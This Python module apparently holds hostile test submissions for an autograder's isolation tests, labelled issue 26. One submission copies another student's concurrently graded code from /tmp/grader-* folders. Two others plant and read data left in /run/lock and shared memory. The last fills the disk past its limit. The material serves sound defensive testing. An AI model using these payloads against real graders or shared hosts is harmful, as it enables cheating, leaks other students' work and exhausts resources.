"""Issue 26: what one grading can do to another — concurrent, or next on the same worker —
and to the host's disk.

* `steal_concurrent_tree` (finding 2): a submission that implements nothing looks for a
  grading running beside it (``/tmp/grader-*/tree``, the grader's scratch) and runs that
  student's ``central_difference`` as its own. `tests/grader/test_grader_hostile.py` grades it
  while a `VICTIM` (the reference, held in its task 1.2 until the test lets it go) runs.
* `leave_for_the_next` / `read_what_was_left` (finding 7): the first leaves a file in
  ``/run/lock`` and a System V shared-memory segment, both named after the test's marker;
  the second, graded next by the same grader process, reads them into its feedback.
* `fill_the_disk` (finding 6): files in home, ``/tmp``, ``/dev/shm``, ``$TMPDIR`` and
  ``/run/lock``, 16 MiB each, up to 256 MiB — far past ``--disk 64``; then it waits to be
  killed (a bomb that stops itself: it returns after 6 s when nothing kills it).
"""

from __future__ import annotations

from .attack import Attack

CD = ("1.1", "central_difference")

#: The shared-memory key of the attacks of a run (also how the test finds the segment).
SHM_KEY = 'import zlib\nKEY = zlib.crc32(T["marker"].encode()) & 0x7FFFFFFF\n'

#: What `leave_for_the_next` plants: recognisable, yet not the marker itself (so that
#: finding it in the feedback reads as a leak, not as a forgery).
PLANTED = 'PLANTED = "left-for-the-next-" + T["marker"][::-1]\n'


def planted(marker: str) -> str:
    """The string `leave_for_the_next` plants, for the test to look for."""
    return "left-for-the-next-" + marker[::-1]


STEAL = r"""
import glob, importlib.util, os, sys
def _neighbour():
    if "_hostile_neighbour" in sys.modules:
        return sys.modules["_hostile_neighbour"]
    own = os.path.realpath(os.getcwd())
    # the grader's scratch folders list (/tmp is readable), what is in them is only guessed:
    # a pattern there would need to list a folder that others may only pass through
    names = ["tree", "submission", "tree-1.1", "tree-1.2", "tree-1.3", "tree-1.4"]
    for root in [r for name in names for r in sorted(glob.glob("/tmp/grader-*/" + name))]:
        if os.path.realpath(root) == own:
            continue
        try:
            spec = importlib.util.spec_from_file_location("_hostile_neighbour", os.path.join(root, "minitorch", "autodiff.py"))
            module = importlib.util.module_from_spec(spec)
            sys.modules["_hostile_neighbour"] = module
            spec.loader.exec_module(module)
            return module
        except Exception:
            sys.modules.pop("_hostile_neighbour", None)
    return None
other = _neighbour()
if other is None:
    return 0.0
return other.central_difference(f, *vals, arg=arg, epsilon=epsilon)
"""

#: The victim: the reference, whose first Scalar addition (task 1.2, graded after 1.1)
#: waits until the test creates ``release`` in its tree (60 s at most).
VICTIM_HOLD = r"""
import os, sys, time
if not sys.__dict__.get("_victim_held"):
    sys.__dict__["_victim_held"] = True
    end = time.monotonic() + 60
    while not os.path.exists("release") and time.monotonic() < end:
        time.sleep(0.05)
return Add.apply(self, b)
"""
VICTIM = {("1.2", "Scalar.__add__"): VICTIM_HOLD}

LEAVE = (
    SHM_KEY
    + PLANTED
    + r"""
import ctypes, os
try:
    with open(os.path.join("/run/lock", T["marker"]), "w") as fh:
        fh.write(PLANTED)
    os.chmod(os.path.join("/run/lock", T["marker"]), 0o644)
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget(KEY, 4096, 0o1644)
if shmid >= 0:
    addr = libc.shmat(shmid, None, 0)
    if addr not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(addr, PLANTED.encode(), len(PLANTED))
        libc.shmdt(ctypes.c_void_p(addr))
return 0.0
"""
)

READ_LEFT = (
    SHM_KEY
    + r"""
import ctypes, os
found = []
try:
    with open(os.path.join("/run/lock", T["marker"])) as fh:
        found.append(fh.read())
except OSError as exc:
    found.append(f"/run/lock: {exc.strerror}")  # not the path: it holds the marker
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget(KEY, 0, 0)
if shmid >= 0:
    addr = libc.shmat(shmid, None, 0o10000)
    if addr not in (None, ctypes.c_void_p(-1).value):
        found.append(ctypes.string_at(addr, 64).split(b"\0")[0].decode(errors="replace"))
else:
    found.append(f"shm: errno {ctypes.get_errno()}")
raise RuntimeError("what the previous student left: " + " | ".join(found))
"""
)

FILL = r"""
import os, time
chunk = b"\0" * (1 << 20)
places = [os.path.expanduser("~"), "/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp"), "/run/lock"]
written = 0
for i in range(16):
    d = os.path.join(places[i % len(places)], T["marker"])
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, str(i)), "wb") as fh:
            for _ in range(16):
                fh.write(chunk)
        written += 16
    except OSError:
        pass
time.sleep(6)
return float(written)
"""

ATTACKS = [
    Attack(
        "steal_concurrent_tree",
        "26.2 neighbours",
        "run the central_difference of a student graded at the same time (/tmp/grader-*/tree)",
        "a1",
        {CD: STEAL},
    ),
    Attack(
        "leave_for_the_next",
        "26.7 neighbours",
        "leave a file in /run/lock and a System V shared-memory segment for the next student",
        "a1",
        {CD: LEAVE},
    ),
    Attack(
        "read_what_was_left",
        "26.7 neighbours",
        "read what the student graded before left in /run/lock and in shared memory",
        "a1",
        {CD: READ_LEFT},
    ),
    Attack(
        "fill_the_disk",
        "26.6 disk",
        "write 256 MiB into home, /tmp, /dev/shm, $TMPDIR and /run/lock, past --disk 64",
        "a1",
        {CD: FILL},
        cli_args=("--disk", "64"),
        status="error",
        says="disk limit",
    ),
]
